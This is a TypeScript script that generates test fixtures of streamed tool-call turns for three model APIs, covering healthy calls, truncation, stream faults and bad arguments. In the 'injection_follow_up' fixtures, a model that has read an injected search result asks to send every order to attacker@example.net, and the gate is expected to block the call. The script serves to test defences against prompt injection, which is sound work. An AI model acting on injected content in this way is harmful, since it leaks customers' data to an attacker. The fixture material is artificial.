/**
 * Writes the turn fixtures of SPEC 8.4 (src/core/turns/*.json). The fixtures
 * are data; this script is how they were first written, kept so a reader can
 * see every event's origin in one place. Ids, texts and token counts are
 * invented (FIXTURE); field names and shapes follow the SDK types (STREAMS.md
 * 1.7, 2.7, 3.7), which test/types/turnFixtures.generated.ts checks.
 *
 *   npx tsx scripts/make-turn-fixtures.ts
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { findScenario } from '../src/core/scenarios.ts';
import { project } from '../src/core/project.ts';
import { toProviderItem } from '../src/core/toProviderItem.ts';
import { PROVIDER_ADAPTERS } from '../src/core/providerAdapters.ts';

type J = Record<string, unknown>;
const OUT = join(import.meta.dirname, '..', 'src', 'core', 'turns');
const PRINCIPAL = { tenant: 'tenant-acme-retail', subject: 'user-7f3a9c21' };
const NOW = '2026-07-19T00:01:00Z';
const KEY = { id: 'audit-key-2026-07', secret: '6f8e1d2c3b4a59687766554433221100ffeeddccbbaa99887766554433221100' };

const ORDER_OK = {
  kind: 'success',
  data: { order_ref: 'ORDER-7', status: 'paid' },
  provenance: { source_label: 'orders', producer_revision: 'orders-mock-v2', resource_revision: 'order-7-r3', observed_at: '2026-07-19T00:00:59Z' },
  downstream: { request_ref: 'ordreq_8a61f0c2d4', receipt_ref: 'rcpt_order_7_4471c0', status_ref: null },
};
const KB_OK = (findScenario('search_kb.hits') as { handler_output: J }).handler_output;
const tools = {
  openai: [
    { type: 'function', name: 'get_order', description: 'Look up an order', parameters: { type: 'object', properties: { order_ref: { type: 'string' } }, required: ['order_ref'], additionalProperties: false }, strict: true },
    { type: 'function', name: 'search_kb', description: 'Search the knowledge base', parameters: { type: 'object', properties: { query: { type: 'string' }, top_k: { type: 'integer' } }, required: ['query'], additionalProperties: false }, strict: false },
  ],
};

const callCtx = (n: string) => ({ operation_id: `op_turn_${n}`, idempotency_key: `idem_turn_${n}_5e0b7a91` });

interface Fixture {
  id: string;
  title: string;
  summary: string;
  stream: unknown[];
  calls: string[];
  history: unknown[];
  handlers: J;
  expect: { problems: string[]; gates: J };
  malformed?: number[];
  key?: boolean;
}

function write(provider: string, f: Fixture): void {
  const turn_context: J = { principal: PRINCIPAL, now: NOW, ...(f.key ? { key: KEY } : {}), calls: Object.fromEntries(f.calls.map((c, i) => [c, callCtx(`${f.id.replace(/\W/g, '_')}_${i + 1}`)])), history: f.history };
  const file = {
    format: 'tool-turn-fixture-v1',
    id: f.id,
    provider,
    title: f.title,
    summary: f.summary,
    expect: f.expect,
    ...(f.malformed ? { outside_sdk_union: f.malformed } : {}),
    stream: f.stream,
    turn_context,
    handlers: f.handlers,
  };
  writeFileSync(join(OUT, `${f.id}.json`), `${JSON.stringify(file, null, 2)}\n`);
}

/** The result of search_kb.injection, as the first request's history carries it. */
function injectionItem(provider: 'openai' | 'anthropic' | 'gemini', call_id: string): J {
  const s = findScenario('search_kb.injection') as { context: J & { call: J }; handler_output: unknown };
  const a = PROVIDER_ADAPTERS.find((x) => x.provider === provider) as { provider: string; api_family: string; adapter_revision: string };
  const context = { ...s.context, call: { ...s.context.call, provider: a.provider, api_family: a.api_family, adapter_revision: a.adapter_revision, call_id } } as never;
  return toProviderItem(project(s.handler_output, context), context) as unknown as J;
}

// ---------- OpenAI ----------
function openai(): void {
  const resp = (id: string, status: string, output: unknown[] = [], extra: J = {}) => ({
    id, object: 'response', created_at: 1784419260, model: 'MODEL-FIXTURE', error: null, incomplete_details: null, instructions: null, metadata: null,
    parallel_tool_calls: true, temperature: null, top_p: null, tool_choice: 'auto', tools: tools.openai, status, output, ...extra,
  });
  const usage = { input_tokens: 212, input_tokens_details: { cached_tokens: 0, cache_write_tokens: 0 }, output_tokens: 31, output_tokens_details: { reasoning_tokens: 12 }, total_tokens: 243 };
  const fc = (id: string, call_id: string, name: string, args: string, status = 'completed') => ({ type: 'function_call', id, call_id, name, arguments: args, status });

  /** Builds a healthy stream: created, in_progress, then for each item its events, then completed. */
  function stream(rid: string, items: { kind: 'reasoning' | 'message' | 'call'; id: string; call_id?: string; name?: string; fragments?: string[]; text?: string }[], opts: { obfuscate?: boolean; keepalive?: boolean } = {}) {
    const ev: J[] = [];
    let seq = 0;
    const push = (e: J) => ev.push({ ...e, sequence_number: seq++ });
    push({ type: 'response.created', response: resp(rid, 'in_progress') });
    push({ type: 'response.in_progress', response: resp(rid, 'in_progress') });
    const done: unknown[] = [];
    items.forEach((it, i) => {
      if (it.kind === 'reasoning') {
        const item = { type: 'reasoning', id: it.id, summary: [], encrypted_content: 'ENC_FIXTURE_gAAAAABo9k2' };
        push({ type: 'response.output_item.added', output_index: i, item: { ...item, encrypted_content: null } });
        push({ type: 'response.output_item.done', output_index: i, item });
        done.push(item);
      } else if (it.kind === 'message') {
        const part = { type: 'output_text', text: it.text as string, annotations: [], logprobs: [] };
        push({ type: 'response.output_item.added', output_index: i, item: { type: 'message', id: it.id, role: 'assistant', status: 'in_progress', content: [] } });
        push({ type: 'response.content_part.added', output_index: i, item_id: it.id, content_index: 0, part: { ...part, text: '' } });
        push({ type: 'response.output_text.delta', output_index: i, item_id: it.id, content_index: 0, delta: it.text, logprobs: [] });
        push({ type: 'response.output_text.done', output_index: i, item_id: it.id, content_index: 0, text: it.text, logprobs: [] });
        push({ type: 'response.content_part.done', output_index: i, item_id: it.id, content_index: 0, part });
        const item = { type: 'message', id: it.id, role: 'assistant', status: 'completed', content: [part] };
        push({ type: 'response.output_item.done', output_index: i, item });
        done.push(item);
      } else {
        const args = (it.fragments as string[]).join('');
        push({ type: 'response.output_item.added', output_index: i, item: fc(it.id, it.call_id as string, it.name as string, '', 'in_progress') });
        (it.fragments as string[]).forEach((d, k) => {
          push({ type: 'response.function_call_arguments.delta', output_index: i, item_id: it.id, delta: d, ...(opts.obfuscate ? { obfuscation: `Xq${k}9a` } : {}) });
          if (opts.keepalive && k === 0) push({ type: 'keepalive' });
        });
        push({ type: 'response.function_call_arguments.done', output_index: i, item_id: it.id, name: it.name, arguments: args });
        const item = fc(it.id, it.call_id as string, it.name as string, args);
        push({ type: 'response.output_item.done', output_index: i, item });
        done.push(item);
      }
    });
    push({ type: 'response.completed', response: resp(rid, 'completed', done, { completed_at: 1784419261, usage }) });
    return ev;
  }
  const history = [{ role: 'user', content: 'Where is my order ORDER-7?' }];
  const oneCall = stream('resp_FIXTURE_oa01', [
    { kind: 'reasoning', id: 'rs_FIXTURE_oa01' },
    { kind: 'call', id: 'fc_FIXTURE_oa01', call_id: 'call_FIXTURE_oa01', name: 'get_order', fragments: ['{"order_ref"', ':"ORDER', '-7"}'] },
  ], { obfuscate: true, keepalive: true });
  write('openai', {
    id: 'openai.one_call', title: 'OpenAI: one call, arguments in three fragments',
    summary: 'A reasoning item, then get_order with its arguments in three deltas (with obfuscation padding and a keepalive); response.completed asks for tools.',
    stream: oneCall, calls: ['call_FIXTURE_oa01'], history, handlers: { call_FIXTURE_oa01: ORDER_OK },
    expect: { problems: [], gates: { call_FIXTURE_oa01: 'handler' } },
  });
  const parallel = stream('resp_FIXTURE_oa02', [
    { kind: 'message', id: 'msg_FIXTURE_oa02', text: 'Let me look up the order and the refund policy.' },
    { kind: 'call', id: 'fc_FIXTURE_oa02a', call_id: 'call_FIXTURE_oa02a', name: 'get_order', fragments: ['{"order_', 'ref":"ORDER-7"}'] },
    { kind: 'call', id: 'fc_FIXTURE_oa02b', call_id: 'call_FIXTURE_oa02b', name: 'search_kb', fragments: ['{"query":"refund', ' policy","top_k":3}'] },
  ]);
  write('openai', {
    id: 'openai.parallel_calls', title: 'OpenAI: two calls in one turn',
    summary: 'A message item, then get_order and search_kb; each result is paired with its call by call_id.',
    stream: parallel, calls: ['call_FIXTURE_oa02a', 'call_FIXTURE_oa02b'],
    history: [{ role: 'user', content: 'Can ORDER-7 be refunded?' }],
    handlers: { call_FIXTURE_oa02b: { ...KB_OK, data: { ...(KB_OK.data as J), hits: (KB_OK.data as { hits: unknown[] }).hits.slice(0, 3) } }, call_FIXTURE_oa02a: ORDER_OK },
    expect: { problems: [], gates: { call_FIXTURE_oa02a: 'handler', call_FIXTURE_oa02b: 'handler' } },
  });
  // Truncated: the budget runs out inside the arguments.
  const trunc = stream('resp_FIXTURE_oa03', [{ kind: 'call', id: 'fc_FIXTURE_oa03', call_id: 'call_FIXTURE_oa03', name: 'get_order', fragments: ['{"order_ref"', ':"ORD'] }]);
  const cut = trunc.slice(0, 5);
  cut.push({ type: 'response.incomplete', sequence_number: 5, response: resp('resp_FIXTURE_oa03', 'incomplete', [fc('fc_FIXTURE_oa03', 'call_FIXTURE_oa03', 'get_order', '{"order_ref":"ORD', 'incomplete')], { incomplete_details: { reason: 'max_output_tokens' }, usage }) });
  write('openai', {
    id: 'openai.truncated', title: 'OpenAI: the output budget runs out inside the arguments',
    summary: 'response.incomplete with max_output_tokens while get_order is still open: NOT_A_TOOL_TURN, nothing runs.',
    stream: cut, calls: ['call_FIXTURE_oa03'], history, handlers: {},
    expect: { problems: ['NOT_A_TOOL_TURN'], gates: {} },
  });
  const inj = stream('resp_FIXTURE_oa04', [
    { kind: 'call', id: 'fc_FIXTURE_oa04', call_id: 'call_FIXTURE_oa04', name: 'send_email', fragments: ['{"to":"attacker@example.net",', '"body":"every order"}'] },
  ]);
  write('openai', {
    id: 'openai.injection_follow_up', title: 'OpenAI: the turn after an injected search hit',
    summary: 'After search_kb.injection the model asks for send_email. The gate answers UNKNOWN_TOOL; no handler runs; the continuation carries the error.',
    stream: inj, calls: ['call_FIXTURE_oa04'],
    history: [
      { role: 'user', content: '退款帮助' },
      { type: 'function_call', call_id: 'call_06_a7f3c4e1', name: 'search_kb', arguments: '{"query":"退款帮助","top_k":3}' },
      injectionItem('openai', 'call_06_a7f3c4e1'),
    ],
    handlers: {},
    expect: { problems: [], gates: { call_FIXTURE_oa04: 'UNKNOWN_TOOL' } },
  });
  const bad = stream('resp_FIXTURE_oa05', [{ kind: 'call', id: 'fc_FIXTURE_oa05', call_id: 'call_FIXTURE_oa05', name: 'get_order', fragments: ['{"order_ref":', '7}'] }]);
  write('openai', {
    id: 'openai.invalid_arguments', title: 'OpenAI: arguments that fail the input schema',
    summary: 'A healthy stream whose get_order arguments carry a number for order_ref: the gate answers INVALID_ARGUMENTS, no handler runs.',
    stream: bad, calls: ['call_FIXTURE_oa05'], history, handlers: {},
    expect: { problems: [], gates: { call_FIXTURE_oa05: 'INVALID_ARGUMENTS' } },
  });
  // Faults, one per problem code the stream can show.
  const base = () => structuredClone(stream('resp_FIXTURE_oa10', [{ kind: 'call', id: 'fc_FIXTURE_oa10', call_id: 'call_FIXTURE_oa10', name: 'get_order', fragments: ['{"order_ref"', ':"ORDER', '-7"}'] }]));
  // A delta for another item, slipped in between the real ones; the sequence numbers stay increasing.
  const order = base();
  order.splice(4, 0, { type: 'response.function_call_arguments.delta', output_index: 0, item_id: 'fc_FIXTURE_other', delta: '"ORDER-9"' });
  order.forEach((e, i) => { (e as J).sequence_number = i; });
  write('openai', {
    id: 'openai.stream_order', title: 'OpenAI: a delta for another item', summary: "A delta whose item_id is not the item at its output_index (the SDK accepts it silently): STREAM_ORDER.",
    stream: order, calls: ['call_FIXTURE_oa10'], history, handlers: { call_FIXTURE_oa10: ORDER_OK }, expect: { problems: ['STREAM_ORDER'], gates: {} },
  });
  write('openai', {
    id: 'openai.stream_unterminated', title: 'OpenAI: the stream is cut after the second delta', summary: 'No terminal event (the SDK still resolves, status in_progress, arguments cut): STREAM_UNTERMINATED.',
    stream: base().slice(0, 5), calls: ['call_FIXTURE_oa10'], history, handlers: { call_FIXTURE_oa10: ORDER_OK }, expect: { problems: ['STREAM_UNTERMINATED'], gates: {} },
  });
  const err = base().slice(0, 5);
  err.push({ type: 'error', code: 'server_error', message: 'The server had an error while processing your request.', param: null, sequence_number: 5 });
  write('openai', {
    id: 'openai.stream_error', title: 'OpenAI: an error event mid-stream', summary: 'An error event while the call is open: STREAM_ERROR, nothing runs.',
    stream: err, calls: ['call_FIXTURE_oa10'], history, handlers: { call_FIXTURE_oa10: ORDER_OK }, expect: { problems: ['STREAM_ERROR'], gates: {} },
  });
  const dis = base();
  (dis[6] as J).arguments = '{"order_ref":"ORDER-8"}';
  write('openai', {
    id: 'openai.arguments_disagree', title: 'OpenAI: .done says other arguments than the deltas', summary: 'The .done event names ORDER-8 while the fragments say ORDER-7 (the SDK lets .done overwrite): ARGUMENTS_DISAGREE.',
    stream: dis, calls: ['call_FIXTURE_oa10'], history, handlers: { call_FIXTURE_oa10: ORDER_OK }, expect: { problems: ['ARGUMENTS_DISAGREE'], gates: {} },
  });
  const dup = stream('resp_FIXTURE_oa11', [
    { kind: 'call', id: 'fc_FIXTURE_oa11a', call_id: 'call_FIXTURE_oa11', name: 'get_order', fragments: ['{"order_ref":"ORDER-7"}'] },
    { kind: 'call', id: 'fc_FIXTURE_oa11b', call_id: 'call_FIXTURE_oa11', name: 'get_order', fragments: ['{"order_ref":"ORDER-8"}'] },
  ]);
  write('openai', {
    id: 'openai.duplicate_call_id', title: 'OpenAI: two calls share a call_id', summary: 'Two function_call items with one call_id: no result could be paired safely. DUPLICATE_CALL_ID.',
    stream: dup, calls: ['call_FIXTURE_oa11'], history, handlers: { call_FIXTURE_oa11: ORDER_OK }, expect: { problems: ['DUPLICATE_CALL_ID'], gates: {} },
  });
}

// ---------- Anthropic ----------
function anthropic(): void {
  const usage0 = { input_tokens: 412, output_tokens: 1, cache_creation_input_tokens: 0, cache_read_input_tokens: 0, cache_creation: null, inference_geo: null, output_tokens_details: null, server_tool_use: null, service_tier: 'standard', speed: null };
  const start = (id: string) => ({ type: 'message_start', message: { id, type: 'message', role: 'assistant', model: 'MODEL-FIXTURE', content: [], stop_reason: null, stop_sequence: null, stop_details: null, container: null, diagnostics: null, usage: usage0 } });
  const mdelta = (stop_reason: string) => ({ type: 'message_delta', delta: { stop_reason, stop_sequence: null, stop_details: null, container: null }, usage: { input_tokens: null, output_tokens: 31, cache_creation_input_tokens: null, cache_read_input_tokens: null, output_tokens_details: null, server_tool_use: null } });
  type B = { kind: 'thinking' | 'text' | 'tool'; id?: string; name?: string; fragments?: string[]; text?: string };
  function stream(mid: string, blocks: B[], opts: { ping?: boolean; emptyFirst?: boolean; stop?: string } = {}) {
    const ev: J[] = [start(mid)];
    blocks.forEach((b, i) => {
      if (b.kind === 'thinking') {
        ev.push({ type: 'content_block_start', index: i, content_block: { type: 'thinking', thinking: '', signature: '' } });
        ev.push({ type: 'content_block_delta', index: i, delta: { type: 'thinking_delta', thinking: 'The user asks about an order; ' } });
        ev.push({ type: 'content_block_delta', index: i, delta: { type: 'thinking_delta', thinking: 'get_order answers that.' } });
        ev.push({ type: 'content_block_delta', index: i, delta: { type: 'signature_delta', signature: 'SIG_FIXTURE_EqQBCkYIBRgCKkA' } });
      } else if (b.kind === 'text') {
        ev.push({ type: 'content_block_start', index: i, content_block: { type: 'text', text: '', citations: null } });
        ev.push({ type: 'content_block_delta', index: i, delta: { type: 'text_delta', text: b.text } });
      } else {
        ev.push({ type: 'content_block_start', index: i, content_block: { type: 'tool_use', id: b.id, name: b.name, input: {}, caller: { type: 'direct' } } });
        if (opts.emptyFirst) ev.push({ type: 'content_block_delta', index: i, delta: { type: 'input_json_delta', partial_json: '' } });
        (b.fragments as string[]).forEach((f, k) => {
          ev.push({ type: 'content_block_delta', index: i, delta: { type: 'input_json_delta', partial_json: f } });
          if (opts.ping && k === 0) ev.push({ type: 'ping' });
        });
      }
      ev.push({ type: 'content_block_stop', index: i });
    });
    ev.push(mdelta(opts.stop ?? 'tool_use'));
    ev.push({ type: 'message_stop' });
    return ev;
  }
  const history = [{ role: 'user', content: 'Where is my order ORDER-7?' }];
  write('anthropic', {
    id: 'anthropic.one_call', title: 'Anthropic: one call, arguments in three fragments',
    summary: 'A thinking block with its signature, then get_order: a leading empty partial_json, three fragments and a ping between them; stop_reason tool_use.',
    stream: stream('msg_FIXTURE_an01', [{ kind: 'thinking' }, { kind: 'tool', id: 'toolu_FIXTURE_an01', name: 'get_order', fragments: ['{"order_ref"', ':"ORDER', '-7"}'] }], { ping: true, emptyFirst: true }),
    calls: ['toolu_FIXTURE_an01'], history, handlers: { toolu_FIXTURE_an01: ORDER_OK }, expect: { problems: [], gates: { toolu_FIXTURE_an01: 'handler' } },
  });
  write('anthropic', {
    id: 'anthropic.parallel_calls', title: 'Anthropic: two calls in one turn (keyed)',
    summary: 'A text block, then get_order and search_kb; results go back first, in tool_use order. The audit key is set: HMAC bindings.',
    stream: stream('msg_FIXTURE_an02', [
      { kind: 'text', text: 'I will look up the order and the refund policy.' },
      { kind: 'tool', id: 'toolu_FIXTURE_an02a', name: 'get_order', fragments: ['{"order_ref":', '"ORDER-7"}'] },
      { kind: 'tool', id: 'toolu_FIXTURE_an02b', name: 'search_kb', fragments: ['{"query":"refund policy"', ',"top_k":3}'] },
    ]),
    calls: ['toolu_FIXTURE_an02a', 'toolu_FIXTURE_an02b'], history: [{ role: 'user', content: 'Can ORDER-7 be refunded?' }], key: true,
    handlers: { toolu_FIXTURE_an02a: ORDER_OK, toolu_FIXTURE_an02b: KB_OK }, expect: { problems: [], gates: { toolu_FIXTURE_an02a: 'handler', toolu_FIXTURE_an02b: 'handler' } },
  });
  const tr = stream('msg_FIXTURE_an03', [{ kind: 'tool', id: 'toolu_FIXTURE_an03', name: 'get_order', fragments: ['{"order_ref"', ':"ORD'] }], { stop: 'max_tokens' });
  write('anthropic', {
    id: 'anthropic.truncated', title: 'Anthropic: max_tokens inside the arguments',
    summary: 'stop_reason max_tokens after {"order_ref":"ORD (the SDK parses it to {}): NOT_A_TOOL_TURN, nothing runs.',
    stream: tr, calls: ['toolu_FIXTURE_an03'], history, handlers: {}, expect: { problems: ['NOT_A_TOOL_TURN'], gates: {} },
  });
  write('anthropic', {
    id: 'anthropic.injection_follow_up', title: 'Anthropic: the turn after an injected search hit',
    summary: 'After search_kb.injection the model asks for send_email. The gate answers UNKNOWN_TOOL; no handler runs; the continuation carries the error.',
    stream: stream('msg_FIXTURE_an04', [{ kind: 'tool', id: 'toolu_FIXTURE_an04', name: 'send_email', fragments: ['{"to":"attacker@example.net",', '"body":"every order"}'] }]),
    calls: ['toolu_FIXTURE_an04'],
    history: [
      { role: 'user', content: '退款帮助' },
      { role: 'assistant', content: [{ type: 'tool_use', id: 'toolu_06_a7f3c4e1', name: 'search_kb', input: { query: '退款帮助', top_k: 3 } }] },
      { role: 'user', content: [injectionItem('anthropic', 'toolu_06_a7f3c4e1')] },
    ],
    handlers: {}, expect: { problems: [], gates: { toolu_FIXTURE_an04: 'UNKNOWN_TOOL' } },
  });
  write('anthropic', {
    id: 'anthropic.invalid_arguments', title: 'Anthropic: arguments that are not JSON',
    summary: 'A healthy stream whose buffer ends with a stray comma: strict parsing refuses it, the gate answers INVALID_ARGUMENTS, no handler runs.',
    stream: stream('msg_FIXTURE_an05', [{ kind: 'tool', id: 'toolu_FIXTURE_an05', name: 'get_order', fragments: ['{"order_ref":"ORDER-7",', '}'] }]),
    calls: ['toolu_FIXTURE_an05'], history, handlers: {}, expect: { problems: [], gates: { toolu_FIXTURE_an05: 'INVALID_ARGUMENTS' } },
  });
  const base = () => stream('msg_FIXTURE_an10', [{ kind: 'text', text: 'Checking.' }, { kind: 'tool', id: 'toolu_FIXTURE_an10', name: 'get_order', fragments: ['{"order_ref"', ':"ORDER', '-7"}'] }]);
  const order = base();
  order.splice(2, 0, { type: 'content_block_delta', index: 0, delta: { type: 'input_json_delta', partial_json: '{"order_ref":"ORDER-9"}' } });
  write('anthropic', {
    id: 'anthropic.stream_order', title: 'Anthropic: an input_json_delta into a text block', summary: 'Arguments sent into the text block (the SDK drops them silently): STREAM_ORDER.',
    stream: order, calls: ['toolu_FIXTURE_an10'], history, handlers: { toolu_FIXTURE_an10: ORDER_OK }, expect: { problems: ['STREAM_ORDER'], gates: {} },
  });
  write('anthropic', {
    id: 'anthropic.stream_unterminated', title: 'Anthropic: the stream is cut before message_stop', summary: 'message_delta tool_use arrives but message_stop never does: STREAM_UNTERMINATED.',
    stream: base().slice(0, -1), calls: ['toolu_FIXTURE_an10'], history, handlers: { toolu_FIXTURE_an10: ORDER_OK }, expect: { problems: ['STREAM_UNTERMINATED'], gates: {} },
  });
  const err = base().slice(0, 6);
  err.push({ type: 'error', error: { type: 'overloaded_error', message: 'Overloaded' } });
  write('anthropic', {
    id: 'anthropic.stream_error', title: 'Anthropic: overloaded_error mid-stream', summary: 'An error event while the call is open (the SDK throws an APIError): STREAM_ERROR.',
    stream: err, calls: ['toolu_FIXTURE_an10'], history, handlers: { toolu_FIXTURE_an10: ORDER_OK }, expect: { problems: ['STREAM_ERROR'], gates: {} }, malformed: [6],
  });
  write('anthropic', {
    id: 'anthropic.duplicate_call_id', title: 'Anthropic: two tool_use blocks share an id', summary: 'Two tool_use blocks with one id: DUPLICATE_CALL_ID.',
    stream: stream('msg_FIXTURE_an11', [
      { kind: 'tool', id: 'toolu_FIXTURE_an11', name: 'get_order', fragments: ['{"order_ref":"ORDER-7"}'] },
      { kind: 'tool', id: 'toolu_FIXTURE_an11', name: 'get_order', fragments: ['{"order_ref":"ORDER-8"}'] },
    ]),
    calls: ['toolu_FIXTURE_an11'], history, handlers: { toolu_FIXTURE_an11: ORDER_OK }, expect: { problems: ['DUPLICATE_CALL_ID'], gates: {} },
  });
}

// ---------- Gemini ----------
function gemini(): void {
  const interaction = (id: string, status: string, extra: J = {}) => ({ id, status, object: 'interaction', model: 'MODEL-FIXTURE', ...extra });
  type S = { kind: 'thought' | 'text' | 'call'; id?: string; name?: string; fragments?: string[]; text?: string };
  function stream(iid: string, steps: S[], opts: { status?: string; statusUpdate?: boolean } = {}) {
    const ev: J[] = [{ event_type: 'interaction.created', interaction: interaction(iid, 'in_progress') }];
    if (opts.statusUpdate) ev.push({ event_type: 'interaction.status_update', interaction_id: iid, status: 'in_progress' });
    steps.forEach((s, i) => {
      if (s.kind === 'thought') {
        ev.push({ event_type: 'step.start', index: i, step: { type: 'thought' } });
        ev.push({ event_type: 'step.delta', index: i, delta: { type: 'thought_signature', signature: 'SIG_FIXTURE_CsUBAY89a1' } });
      } else if (s.kind === 'text') {
        ev.push({ event_type: 'step.start', index: i, step: { type: 'model_output' } });
        ev.push({ event_type: 'step.delta', index: i, delta: { type: 'text', text: s.text } });
      } else {
        ev.push({ event_type: 'step.start', index: i, step: { type: 'function_call', id: s.id, name: s.name, arguments: {} } });
        for (const f of s.fragments as string[]) ev.push({ event_type: 'step.delta', index: i, delta: { type: 'arguments_delta', arguments: f } });
      }
      ev.push({ event_type: 'step.stop', index: i });
    });
    ev.push({ event_type: 'interaction.completed', interaction: interaction(iid, opts.status ?? 'requires_action', { usage: { total_input_tokens: 52, total_output_tokens: 14, total_thought_tokens: 40, total_tokens: 106 } }) });
    return ev;
  }
  const history = [{ type: 'user_input', content: [{ type: 'text', text: 'Where is my order ORDER-7?' }] }];
  write('gemini', {
    id: 'gemini.one_call', title: 'Gemini: one call, arguments in three fragments',
    summary: 'A thought step with its signature and a status update, then get_order with three arguments_delta fragments; interaction.completed requires_action.',
    stream: stream('v1_FIXTURE_ge01', [{ kind: 'thought' }, { kind: 'call', id: 'fncall_ge01', name: 'get_order', fragments: ['{"order_ref"', ':"ORDER', '-7"}'] }], { statusUpdate: true }),
    calls: ['fncall_ge01'], history, handlers: { fncall_ge01: ORDER_OK }, expect: { problems: [], gates: { fncall_ge01: 'handler' } },
  });
  write('gemini', {
    id: 'gemini.parallel_calls', title: 'Gemini: two calls in one turn',
    summary: 'A model_output text step, then get_order and search_kb; each function_result is paired by call_id.',
    stream: stream('v1_FIXTURE_ge02', [
      { kind: 'text', text: 'Looking up the order and the refund policy.' },
      { kind: 'call', id: 'fncall_ge02a', name: 'get_order', fragments: ['{"order_ref":', '"ORDER-7"}'] },
      { kind: 'call', id: 'fncall_ge02b', name: 'search_kb', fragments: ['{"query":"refund policy"}'] },
    ]),
    calls: ['fncall_ge02a', 'fncall_ge02b'], history: [{ type: 'user_input', content: [{ type: 'text', text: 'Can ORDER-7 be refunded?' }] }],
    handlers: { fncall_ge02a: ORDER_OK, fncall_ge02b: KB_OK }, expect: { problems: [], gates: { fncall_ge02a: 'handler', fncall_ge02b: 'handler' } },
  });
  const tr = stream('v1_FIXTURE_ge03', [{ kind: 'call', id: 'fncall_ge03', name: 'get_order', fragments: ['{"order_ref"', ':"ORD'] }], { status: 'incomplete' });
  tr.splice(tr.length - 2, 1); // the step never stops: the budget ran out inside it
  write('gemini', {
    id: 'gemini.truncated', title: 'Gemini: the budget runs out inside the arguments',
    summary: 'interaction.completed with status incomplete while get_order is open: NOT_A_TOOL_TURN, nothing runs.',
    stream: tr, calls: ['fncall_ge03'], history, handlers: {}, expect: { problems: ['NOT_A_TOOL_TURN'], gates: {} },
  });
  write('gemini', {
    id: 'gemini.injection_follow_up', title: 'Gemini: the turn after an injected search hit',
    summary: 'After search_kb.injection the model asks for send_email. The gate answers UNKNOWN_TOOL; no handler runs; the continuation carries the error.',
    stream: stream('v1_FIXTURE_ge04', [{ kind: 'call', id: 'fncall_ge04', name: 'send_email', fragments: ['{"to":"attacker@example.net",', '"body":"every order"}'] }]),
    calls: ['fncall_ge04'],
    history: [
      { type: 'user_input', content: [{ type: 'text', text: '退款帮助' }] },
      { type: 'function_call', id: 'fncall_06_a7f3c4e1', name: 'search_kb', arguments: { query: '退款帮助', top_k: 3 } },
      injectionItem('gemini', 'fncall_06_a7f3c4e1'),
    ],
    handlers: {}, expect: { problems: [], gates: { fncall_ge04: 'UNKNOWN_TOOL' } },
  });
  write('gemini', {
    id: 'gemini.invalid_arguments', title: 'Gemini: arguments that are JSON but not an object',
    summary: 'The fragments make a JSON array: the gate answers INVALID_ARGUMENTS, no handler runs.',
    stream: stream('v1_FIXTURE_ge05', [{ kind: 'call', id: 'fncall_ge05', name: 'get_order', fragments: ['["ORDER-7"', ']'] }]),
    calls: ['fncall_ge05'], history, handlers: {}, expect: { problems: [], gates: { fncall_ge05: 'INVALID_ARGUMENTS' } },
  });
  const base = () => stream('v1_FIXTURE_ge10', [{ kind: 'thought' }, { kind: 'call', id: 'fncall_ge10', name: 'get_order', fragments: ['{"order_ref"', ':"ORDER', '-7"}'] }]);
  const order = base();
  (order[6] as J).index = 2;
  write('gemini', {
    id: 'gemini.stream_order', title: 'Gemini: a delta for a step that never started', summary: 'An arguments_delta for index 2, where no step.start was seen: STREAM_ORDER.',
    stream: order, calls: ['fncall_ge10'], history, handlers: { fncall_ge10: ORDER_OK }, expect: { problems: ['STREAM_ORDER'], gates: {} },
  });
  write('gemini', {
    id: 'gemini.stream_unterminated', title: 'Gemini: the stream ends without interaction.completed', summary: 'The call stops but the interaction never completes: STREAM_UNTERMINATED.',
    stream: base().slice(0, -1), calls: ['fncall_ge10'], history, handlers: { fncall_ge10: ORDER_OK }, expect: { problems: ['STREAM_UNTERMINATED'], gates: {} },
  });
  const err = base().slice(0, 6);
  err.push({ event_type: 'error', error: { code: '503', message: 'The model is overloaded.' } });
  write('gemini', {
    id: 'gemini.stream_error', title: 'Gemini: an error event mid-stream', summary: 'An error event while the call is open (the SDK yields it without throwing): STREAM_ERROR.',
    stream: err, calls: ['fncall_ge10'], history, handlers: { fncall_ge10: ORDER_OK }, expect: { problems: ['STREAM_ERROR'], gates: {} },
  });
  write('gemini', {
    id: 'gemini.duplicate_call_id', title: 'Gemini: two function_call steps share an id', summary: 'Two steps with one id: DUPLICATE_CALL_ID.',
    stream: stream('v1_FIXTURE_ge11', [
      { kind: 'call', id: 'fncall_ge11', name: 'get_order', fragments: ['{"order_ref":"ORDER-7"}'] },
      { kind: 'call', id: 'fncall_ge11', name: 'get_order', fragments: ['{"order_ref":"ORDER-8"}'] },
    ]),
    calls: ['fncall_ge11'], history, handlers: { fncall_ge11: ORDER_OK }, expect: { problems: ['DUPLICATE_CALL_ID'], gates: {} },
  });
}

openai();
anthropic();
gemini();
